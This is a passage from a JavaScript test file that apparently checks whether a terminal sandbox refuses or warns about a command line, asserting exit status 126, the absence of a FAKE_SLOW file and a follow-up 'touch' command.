          assert.match(term.screen(), /running on the host unchecked/);
        } else {
          assert.equal(st, 126);
          assert.ok(!existsSync(join(term.ws, 'FAKE_SLOW')), 'refused');
          assert.match(term.screen(), /line not run/);
        }
        assert.equal(await term.run('touch after-slow'), 0);
      } finally {
        term.stop();
      }
    }
  });
}
